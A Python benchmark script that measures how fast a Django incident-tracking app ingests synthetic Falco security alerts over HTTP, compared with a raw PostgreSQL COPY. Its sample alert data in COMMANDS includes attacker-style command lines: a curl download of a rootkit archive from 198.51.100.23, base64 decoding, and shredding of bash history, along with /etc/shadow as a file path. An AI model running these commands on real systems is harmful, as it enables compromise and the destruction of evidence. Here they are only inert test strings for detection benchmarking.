"""Falco ingestion through a real HTTP server, against a raw PostgreSQL COPY of the same rows.

    DATABASE_URL=postgres://postgres@127.0.0.1:5432/docket_bench .venv/bin/python bench/ingest.py

Creates a temporary database next to the one ``DATABASE_URL`` names (``<name>_ingest_<pid>``),
migrates it, issues an ingest token for one agency with two systems, and starts gunicorn
(``config.wsgi``, production settings, gthread workers) on a free port of 127.0.0.1. Alerts are
built from the real rules of ``../shared/data/falco/falco_rules.yaml`` (rule name, priority,
tags, ``output_fields`` for every field of the rule's output format, the output rendered from
it) on pods of several namespaces, each with its own time, so none is a duplicate. Then:

1. single-alert requests from ``--concurrency`` client threads (keep-alive connections):
   alerts per second;
2. single-alert requests paced at ``--rate`` per second: latency p50/p99, measured from the
   instant each request was due (so a stall delays the ones behind it);
3. batches of ``--batch-size`` alerts per request (a JSON array): alerts per second;

and a raw ``COPY`` (psycopg 3 ``cursor.copy``, one transaction) of the same rows, as they are
stored, into a table made ``LIKE incidents_detection INCLUDING ALL`` (same columns, indexes and
unique constraint). Each figure is printed with its ratio to COPY. Grouping is not measured: it
runs after commit in Celery (messages go to a filesystem broker in a temporary folder, which
nobody consumes here). The server, the database and the folder are removed at the end
(``--keep-db`` keeps the database). Exit status 1 when a target is missed (``--no-fail``).
"""

from __future__ import annotations

import argparse
import http.client
import json
import os
import random
import re
import secrets
import shutil
import socket
import statistics
import subprocess
import sys
import tempfile
import threading
import time
from datetime import UTC, datetime, timedelta
from pathlib import Path
from urllib.parse import urlsplit

import yaml

ROOT = Path(__file__).resolve().parent.parent
sys.path.insert(0, str(ROOT))
RULES_FILE = ROOT.parent / "shared" / "data" / "falco" / "falco_rules.yaml"
URL = "/api/v1/ingest/falco"

TARGET_BATCH_RATIO = 0.25
TARGET_SINGLE_RATE = 500.0
TARGET_PACED_P99_MS = 50.0


# --- the database and Django ------------------------------------------------------------------


def temporary_database(url: str) -> tuple[str, str]:
    """Create a fresh database beside the one ``url`` names; returns (its URL, admin URL)."""
    import psycopg

    parts = urlsplit(url)
    if not parts.scheme.startswith("postgres"):
        sys.exit(f"bench/ingest.py measures PostgreSQL; DATABASE_URL is {url!r}")
    name = f"{parts.path.lstrip('/') or 'docket'}_ingest_{os.getpid()}"
    admin = parts._replace(path="/postgres").geturl()
    with psycopg.connect(admin, autocommit=True) as conn:
        conn.execute(f'CREATE DATABASE "{name}"')
    return parts._replace(path=f"/{name}").geturl(), admin


def drop_database(url: str, admin: str) -> None:
    import psycopg

    name = urlsplit(url).path.lstrip("/")
    with psycopg.connect(admin, autocommit=True) as conn:
        conn.execute(f'DROP DATABASE IF EXISTS "{name}" WITH (FORCE)')


def server_environment(db_url: str, var_dir: Path) -> dict[str, str]:
    """Production settings, as deployed behind a TLS proxy on this host."""
    for sub in ("queue", "processed", "control"):
        (var_dir / "broker" / sub).mkdir(parents=True, exist_ok=True)
    return {
        "DJANGO_SETTINGS_MODULE": "config.settings.production",
        "DJANGO_SECRET_KEY": secrets.token_urlsafe(50),
        "DJANGO_ALLOWED_HOSTS": "127.0.0.1",
        "DATABASE_URL": db_url,
        "DOCKET_VAR_DIR": str(var_dir),
        "CELERY_BROKER_URL": "filesystem://localhost//",
    }


def setup_django():
    """Migrate; one agency, two systems with selectors, one ingest token. Returns the token."""
    import django

    django.setup()
    from django.core.management import call_command

    call_command("migrate", verbosity=0, interactive=False)
    from accounts.models import IngestToken
    from accounts.services import agency_create
    from compliance.models import InformationSystem

    agency = agency_create(name="Bench Department", abbreviation="BENCH", time_zone="UTC")
    InformationSystem.objects.create(
        agency=agency,
        name="Online Store",
        acronym="STORE",
        confidentiality=2,
        integrity=2,
        availability=1,
        image_repositories=["registry.bench.gov/store/"],
        k8s_namespaces=["store"],
    )
    InformationSystem.objects.create(
        agency=agency,
        name="Case Management",
        acronym="CASE",
        confidentiality=3,
        integrity=3,
        availability=2,
        host_patterns=["case-*"],
        k8s_namespaces=["case"],
    )
    _, plain = IngestToken.issue(agency=agency, name="falco-bench")
    return agency, plain


# --- alerts from the real rules ---------------------------------------------------------------

FIELD = re.compile(r"%([a-zA-Z0-9_.]+(?:\[[^\]]*\])?)")
NAMESPACES = ("store", "case", "payments", "kube-system")  # payments: nobody's, triage queue
COMMANDS = (
    ("bash", "/bin/bash", "bash"),
    ("ls", "/bin/ls", "ls -la /var/www"),
    ("curl", "/usr/bin/curl", "curl -s http://198.51.100.23/kit/rk.tar.gz.b64 -o /tmp/.x"),
    ("base64", "/usr/bin/base64", "base64 -d /tmp/.x"),
    ("tar", "/bin/tar", "tar xvfz rk.tar.gz"),
    ("gzip", "/bin/gzip", "gzip -d rk.gz"),
    ("shred", "/usr/bin/shred", "shred -f /var/www/.bash_history"),
)


def load_rules() -> list[dict]:
    if not RULES_FILE.is_file():
        sys.exit(f"the real rules file {RULES_FILE} is absent (../shared/data next to the project)")
    return [
        doc
        for doc in yaml.safe_load(RULES_FILE.read_text())
        if isinstance(doc, dict) and "rule" in doc and "output" in doc and "priority" in doc
    ]


class Alerts:
    """Alerts as Falco emits them with ``json_output: true``, each at its own nanosecond."""

    def __init__(self, seed: int = 2026):
        self.rules = load_rules()
        self.rng = random.Random(seed)
        self.next_ns = int((datetime.now(UTC) - timedelta(hours=1)).timestamp()) * 10**9
        self.pods = []
        for ns in NAMESPACES:
            for n in range(5):
                suffix = "".join(self.rng.choices("bcdfghjklmnpqrstvwxz2456789", k=5))
                self.pods.append(
                    {
                        "container.id": secrets.token_hex(6),
                        "container.name": f"{ns}-app",
                        "container.image.repository": f"registry.bench.gov/{ns}/app-{n}",
                        "container.image.tag": f"1.{n}.{self.rng.randint(0, 9)}",
                        "k8s.ns.name": ns,
                        "k8s.pod.name": f"{ns}-app-{n}-7d9c-{suffix}",
                    }
                )

    def one(self) -> dict:
        rng = self.rng
        rule = rng.choice(self.rules)
        self.next_ns += rng.randint(200_000, 5_000_000)
        ns = self.next_ns
        name, exe, cmdline = rng.choice(COMMANDS)
        pod = rng.choice(self.pods)
        sample = {
            "evt.type": rng.choice(("execve", "openat", "unlinkat", "connect", "renameat2")),
            "evt.time": ns,
            "user.name": "www-data",
            "user.uid": 33,
            "user.loginuid": -1,
            "proc.name": name,
            "proc.exepath": exe,
            "proc.exe": exe,
            "proc.cmdline": cmdline,
            "proc.pname": "php-fpm",
            "proc.pcmdline": "php-fpm: pool www",
            "proc.pid": rng.randint(100, 4_000_000),
            "proc.ppid": rng.randint(100, 4_000_000),
            "proc.tty": 0,
            "fd.name": rng.choice(("/var/www/.bash_history", "/tmp/.x", "/etc/shadow")),
            "fd.sip": "198.51.100.23",
            "fd.sport": 443,
            "evt.arg.flags": "O_RDONLY",
        }
        fields = {}
        for field in FIELD.findall(rule["output"]):
            fields[field] = sample.get(field, f"{field.split('[')[0].rsplit('.', 1)[-1]}-value")
        fields.update(pod)
        fields["evt.time"] = ns
        when = datetime.fromtimestamp(ns // 10**9, UTC)
        stamp = f"{when:%Y-%m-%dT%H:%M:%S}.{ns % 10**9:09d}Z"
        priority = str(rule["priority"]).strip().capitalize()
        text = FIELD.sub(
            lambda m: str(fields.get(m.group(1), "<NA>")), " ".join(rule["output"].split())
        )
        host = f"{'case' if pod['k8s.ns.name'] == 'case' else 'node'}-{rng.randint(1, 12):02d}"
        return {
            "uuid": secrets.token_hex(16),
            "hostname": host,
            "output": f"{stamp[11:29]}: {priority} {text}",
            "priority": priority,
            "rule": rule["rule"],
            "source": "syscall",
            "tags": list(rule.get("tags") or []),
            "time": stamp,
            "output_fields": fields,
        }

    def many(self, n: int) -> list[dict]:
        return [self.one() for _ in range(n)]


# --- the HTTP client --------------------------------------------------------------------------


class Client:
    """One keep-alive connection per thread."""

    def __init__(self, port: int, token: str):
        self.port = port
        self.headers = {
            "Authorization": f"Bearer {token}",
            "Content-Type": "application/json",
            "X-Forwarded-Proto": "https",  # as the TLS proxy in front of gunicorn says
            "User-Agent": "Falcosidekick",
        }
        self.local = threading.local()

    def post(self, body: bytes) -> tuple[int, dict]:
        conn = getattr(self.local, "conn", None)
        if conn is None:
            conn = self.local.conn = http.client.HTTPConnection("127.0.0.1", self.port, timeout=60)
        try:
            conn.request("POST", URL, body=body, headers=self.headers)
            response = conn.getresponse()
            data = response.read()
        except (http.client.HTTPException, OSError):
            conn.close()
            self.local.conn = None
            raise
        if response.will_close:
            conn.close()
            self.local.conn = None
        return response.status, json.loads(data)


def check(status: int, answer: dict, expected: int) -> None:
    if status != 200 or answer.get("accepted") != expected:
        raise RuntimeError(f"ingest answered {status} {str(answer)[:300]} (expected {expected})")


def run_closed(client: Client, bodies: list[tuple[bytes, int]], threads: int):
    """Send every body as fast as ``threads`` clients can; returns (seconds, latencies ms)."""
    queue = iter(bodies)
    lock = threading.Lock()
    latencies: list[float] = []
    errors: list[BaseException] = []

    def work():
        mine = []
        while True:
            with lock:
                body = next(queue, None)
            if body is None or errors:
                break
            t0 = time.perf_counter()
            try:
                status, answer = client.post(body[0])
                check(status, answer, body[1])
            except BaseException as exc:
                errors.append(exc)
                break
            mine.append((time.perf_counter() - t0) * 1000)
        with lock:
            latencies.extend(mine)

    workers = [threading.Thread(target=work) for _ in range(threads)]
    started = time.perf_counter()
    for w in workers:
        w.start()
    for w in workers:
        w.join()
    elapsed = time.perf_counter() - started
    if errors:
        raise errors[0]
    return elapsed, latencies


def run_paced(client: Client, bodies: list[bytes], rate: float, threads: int):
    """Request i is due at start + i / rate; latency counts from when it was due."""
    start = time.perf_counter() + 0.05
    index = iter(range(len(bodies)))
    lock = threading.Lock()
    latencies: list[float] = []
    errors: list[BaseException] = []

    def work():
        mine = []
        while not errors:
            with lock:
                i = next(index, None)
            if i is None:
                break
            due = start + i / rate
            pause = due - time.perf_counter()
            if pause > 0:
                time.sleep(pause)
            try:
                status, answer = client.post(bodies[i])
                check(status, answer, 1)
            except BaseException as exc:
                errors.append(exc)
                break
            mine.append((time.perf_counter() - due) * 1000)
        with lock:
            latencies.extend(mine)

    workers = [threading.Thread(target=work) for _ in range(threads)]
    for w in workers:
        w.start()
    for w in workers:
        w.join()
    if errors:
        raise errors[0]
    return time.perf_counter() - start, latencies


def percentile(values: list[float], p: float) -> float:
    ordered = sorted(values)
    return ordered[min(len(ordered) - 1, max(0, round(p / 100 * len(ordered)) - 1))]


# --- CPU accounting (Linux /proc) --------------------------------------------------------------

TICK = os.sysconf("SC_CLK_TCK") if hasattr(os, "sysconf") else 100


def _cpu(pid: int) -> float:
    try:
        fields = Path(f"/proc/{pid}/stat").read_text().rsplit(")", 1)[1].split()
    except OSError:
        return 0.0
    return (int(fields[11]) + int(fields[12])) / TICK  # utime + stime


def _children(pid: int) -> list[int]:
    try:
        return [int(c) for c in Path(f"/proc/{pid}/task/{pid}/children").read_text().split()]
    except OSError:
        return []


class CpuMeter:
    """CPU seconds spent by the gunicorn processes, the PostgreSQL backends of the bench
    database (when PostgreSQL runs on this host) and this process (the client)."""

    def __init__(self, server_pid: int, db_url: str):
        import psycopg

        self.server_pid = server_pid
        self.db_name = urlsplit(db_url).path.lstrip("/")
        self.conn = psycopg.connect(db_url, autocommit=True)
        self.conn.execute("SELECT 1")

    def _backends(self) -> list[int]:
        rows = self.conn.execute(
            "SELECT pid FROM pg_stat_activity WHERE datname = %s AND pid <> pg_backend_pid()",
            [self.db_name],
        ).fetchall()
        return [pid for (pid,) in rows]

    def snapshot(self) -> dict:
        server = [self.server_pid, *_children(self.server_pid)]
        return {
            "server": sum(_cpu(p) for p in server),
            "db": {p: _cpu(p) for p in self._backends()},
            "client": time.process_time(),
        }

    @staticmethod
    def spent(before: dict, after: dict) -> dict:
        db = sum(v - before["db"].get(p, 0.0) for p, v in after["db"].items())
        return {
            "server": after["server"] - before["server"],
            "db": db,
            "client": after["client"] - before["client"],
        }

    def close(self):
        self.conn.close()


# --- the server -------------------------------------------------------------------------------


def free_port() -> int:
    with socket.socket() as s:
        s.bind(("127.0.0.1", 0))
        return s.getsockname()[1]


def start_server(env: dict, port: int, workers: int, threads: int, log: Path):
    gunicorn = Path(sys.executable).with_name("gunicorn")
    command = [
        str(gunicorn),
        "config.wsgi",
        "--bind",
        f"127.0.0.1:{port}",
        "--workers",
        str(workers),
        "--worker-class",
        "gthread",
        "--threads",
        str(threads),
        "--keep-alive",
        "30",
        "--forwarded-allow-ips",
        "127.0.0.1",
    ]
    process = subprocess.Popen(
        command,
        cwd=ROOT,
        env={**os.environ, **env},
        stdout=log.open("w"),
        stderr=subprocess.STDOUT,
    )
    deadline = time.monotonic() + 60
    while time.monotonic() < deadline:
        if process.poll() is not None:
            sys.exit(f"gunicorn exited ({process.returncode}):\n{log.read_text()[-3000:]}")
        try:
            with socket.create_connection(("127.0.0.1", port), timeout=0.5):
                return process
        except OSError:
            time.sleep(0.2)
    process.terminate()
    sys.exit(f"gunicorn did not listen on 127.0.0.1:{port} within a minute")


def stop_server(process) -> None:
    if process.poll() is None:
        process.terminate()
        try:
            process.wait(timeout=15)
        except subprocess.TimeoutExpired:
            process.kill()
            process.wait()


# --- the baseline: raw COPY -------------------------------------------------------------------

JSON_COLUMNS = ("tags", "output_fields", "mitre_tactics", "mitre_techniques", "control_refs", "raw")


def copy_rows(alerts: list[dict], *, agency, token_id: int) -> tuple[list[str], list[tuple]]:
    """The rows ingestion stores for ``alerts`` (normalised and attributed, not timed)."""
    from incidents import falco
    from incidents.ingest import agency_selectors

    selectors = agency_selectors(agency)
    now = datetime.now(UTC)
    columns = [
        "agency_id",
        "system_id",
        "token_id",
        "content_hash",
        "kind",
        "rule",
        "priority",
        "source",
        "hostname",
        "time",
        "time_ns",
        "output",
        *JSON_COLUMNS,
        "container_id",
        "container_image",
        "k8s_cluster",
        "k8s_namespace",
        "k8s_pod",
        "process_name",
        "process_cmdline",
        "process_pid",
        "user_name",
        "file_path",
        "received_at",
    ]
    rows = []
    for item in alerts:
        a = falco.normalise(item)
        values = {
            "agency_id": agency.pk,
            "system_id": falco.attribute(a, selectors),
            "token_id": token_id,
            "received_at": now,
        }
        for name in columns:
            if name in values:
                continue
            value = getattr(a, name)
            values[name] = json.dumps(value) if name in JSON_COLUMNS else value
        rows.append(tuple(values[c] for c in columns))
    return columns, rows


def raw_copy(db_url: str, columns: list[str], rows: list[tuple]) -> float:
    """Seconds to COPY ``rows`` into a fresh table like incidents_detection, committed."""
    import psycopg

    with psycopg.connect(db_url) as conn:
        conn.execute("DROP TABLE IF EXISTS bench_detection_copy")
        conn.execute("CREATE TABLE bench_detection_copy (LIKE incidents_detection INCLUDING ALL)")
        conn.commit()
        t0 = time.perf_counter()
        statement = f"COPY bench_detection_copy ({', '.join(columns)}) FROM STDIN"
        with conn.cursor() as cur, cur.copy(statement) as copy:
            for row in rows:
                copy.write_row(row)
        conn.commit()
        elapsed = time.perf_counter() - t0
        stored = conn.execute("SELECT count(*) FROM bench_detection_copy").fetchone()[0]
        if stored != len(rows):
            raise RuntimeError(f"COPY stored {stored} rows, not {len(rows)}")
        conn.execute("DROP TABLE bench_detection_copy")
        conn.commit()
    return elapsed


# --- main -------------------------------------------------------------------------------------


def main() -> int:
    parser = argparse.ArgumentParser(description=__doc__.splitlines()[0])
    parser.add_argument("--single", type=int, default=3000, help="single-alert requests")
    parser.add_argument("--concurrency", type=int, default=16, help="client threads")
    parser.add_argument("--rate", type=float, default=100.0, help="paced alerts per second")
    parser.add_argument("--paced-seconds", type=float, default=15.0)
    parser.add_argument("--batches", type=int, default=24)
    parser.add_argument("--batch-size", type=int, default=1000)
    parser.add_argument("--workers", type=int, default=2, help="gunicorn workers")
    parser.add_argument("--threads", type=int, default=4, help="gunicorn threads per worker")
    parser.add_argument("--keep-db", action="store_true")
    parser.add_argument("--no-fail", action="store_true", help="report only; exit 0")
    args = parser.parse_args()

    base_url = os.environ.get("DATABASE_URL", "postgres://postgres@127.0.0.1:5432/docket_bench")
    db_url, admin_url = temporary_database(base_url)
    var_dir = Path(tempfile.mkdtemp(prefix="docket-ingest-bench-"))
    server = None
    try:
        env = server_environment(db_url, var_dir)
        os.environ.update(env)
        t0 = time.perf_counter()
        agency, token = setup_django()
        from django.db import connection

        from accounts.models import IngestToken
        from incidents.models import Detection

        token_id = IngestToken.lookup(token).pk
        pg = connection.cursor().connection.info.server_version // 10000
        connection.close()
        print(f"database {urlsplit(db_url).path[1:]} migrated in {time.perf_counter() - t0:.0f} s")

        gen = Alerts()
        warm = gen.many(50)
        single = gen.many(args.single)
        paced = gen.many(int(args.rate * args.paced_seconds))
        batched = gen.many(args.batches * args.batch_size)
        dumps = json.dumps
        single_bodies = [(dumps(a).encode(), 1) for a in single]
        paced_bodies = [dumps(a).encode() for a in paced]
        batch_bodies = [
            (dumps(batched[i : i + args.batch_size]).encode(), args.batch_size)
            for i in range(0, len(batched), args.batch_size)
        ]
        size = statistics.mean(len(b) for b, _ in single_bodies)
        print(
            f"{len(gen.rules)} rules of {RULES_FILE.name}; {len(single) + len(paced):,} single "
            f"alerts (mean {size:,.0f} bytes), {len(batch_bodies)} batches of "
            f"{args.batch_size:,} ({statistics.mean(len(b) for b, _ in batch_bodies) / 1e6:.1f} MB)"
        )

        port = free_port()
        log = var_dir / "gunicorn.log"
        server = start_server(env, port, args.workers, args.threads, log)
        client = Client(port, token)
        run_closed(client, [(dumps(a).encode(), 1) for a in warm], args.concurrency)
        print(
            f"gunicorn on 127.0.0.1:{port}: {args.workers} gthread workers × {args.threads} "
            f"threads; {args.concurrency} client threads; PostgreSQL {pg}",
            flush=True,
        )

        meter = CpuMeter(server.pid, db_url)
        cpu = []
        before = meter.snapshot()
        single_s, single_lat = run_closed(client, single_bodies, args.concurrency)
        cpu.append(meter.spent(before, before := meter.snapshot()))
        paced_s, paced_lat = run_paced(client, paced_bodies, args.rate, args.concurrency)
        cpu.append(meter.spent(before, before := meter.snapshot()))
        batch_s, batch_lat = run_closed(client, batch_bodies, min(args.concurrency, 4))
        cpu.append(meter.spent(before, meter.snapshot()))
        meter.close()
        stop_server(server)
        server = None

        expected = len(warm) + len(single) + len(paced) + len(batched)
        stored = Detection.objects.count()
        if stored != expected:
            raise RuntimeError(f"{stored:,} detections stored, {expected:,} sent")
        connection.close()

        cols, single_rows = copy_rows(single + paced, agency=agency, token_id=token_id)
        copy_single_s = raw_copy(db_url, cols, single_rows)
        cols, batch_rows = copy_rows(batched, agency=agency, token_id=token_id)
        copy_batch_s = raw_copy(db_url, cols, batch_rows)
    finally:
        if server is not None:
            stop_server(server)
        try:
            from django.db import connections

            connections.close_all()
        except Exception:  # Django may not be set up yet
            pass
        if args.keep_db:
            print(f"kept database {db_url}")
        else:
            drop_database(db_url, admin_url)
        shutil.rmtree(var_dir, ignore_errors=True)

    copy_single_rate = len(single_rows) / copy_single_s
    copy_batch_rate = len(batch_rows) / copy_batch_s
    single_rate = len(single) / single_s
    paced_rate = len(paced) / paced_s
    batch_rate = len(batched) / batch_s
    p99 = percentile(paced_lat, 99)
    counts = [len(single), len(paced), len(batched)]
    rows = [
        (
            f"single alerts, {args.concurrency} concurrent",
            single_rate,
            copy_single_rate,
            f"{statistics.median(single_lat):.1f} / {percentile(single_lat, 99):.1f}",
            single_rate >= TARGET_SINGLE_RATE,
            f"≥ {TARGET_SINGLE_RATE:.0f} alerts/s",
        ),
        (
            f"single alerts paced at {args.rate:.0f}/s",
            paced_rate,
            copy_single_rate,
            f"{statistics.median(paced_lat):.1f} / {p99:.1f}",
            p99 < TARGET_PACED_P99_MS,
            f"p99 < {TARGET_PACED_P99_MS:.0f} ms",
        ),
        (
            f"batches of {args.batch_size:,}",
            batch_rate,
            copy_batch_rate,
            f"{statistics.median(batch_lat):.1f} / {percentile(batch_lat, 99):.1f}",
            batch_rate / copy_batch_rate >= TARGET_BATCH_RATIO,
            f"≥ {TARGET_BATCH_RATIO:.0%} of COPY",
        ),
    ]
    print()
    header = (
        f"{'what':<32} {'alerts/s':>9} {'COPY rows/s':>11} {'×COPY':>7} "
        f"{'p50 / p99 ms':>15}  {'target':<18} verdict"
    )
    print(header)
    print("-" * len(header))
    failed = False
    for name, rate, copy_rate, lat, ok, target in rows:
        failed = failed or not ok
        print(
            f"{name:<32} {rate:>9,.0f} {copy_rate:>11,.0f} {rate / copy_rate:>7.3f} "
            f"{lat:>15}  {target:<18} {'ok' if ok else 'MISSED'}"
        )
    print()
    print(f"{'CPU ms per alert':<32} {'gunicorn':>9} {'PostgreSQL':>11} {'client':>7}")
    for (name, *_), spent, n in zip(rows, cpu, counts, strict=True):
        per = {k: v * 1000 / n for k, v in spent.items()}
        print(f"{name:<32} {per['server']:>9.2f} {per['db']:>11.2f} {per['client']:>7.2f}")
    load = os.getloadavg()[0] if hasattr(os, "getloadavg") else float("nan")
    print(
        f"\nCOPY: {len(single_rows):,} and {len(batch_rows):,} rows in one transaction each into "
        "a table LIKE incidents_detection INCLUDING ALL; latency per request, client side; "
        f"{os.cpu_count()} CPUs, load average {load:.1f} at the end (other work on the host "
        "shifts every figure but the ratios less)."
    )
    return 1 if failed and not args.no_fail else 0


if __name__ == "__main__":
    sys.exit(main())
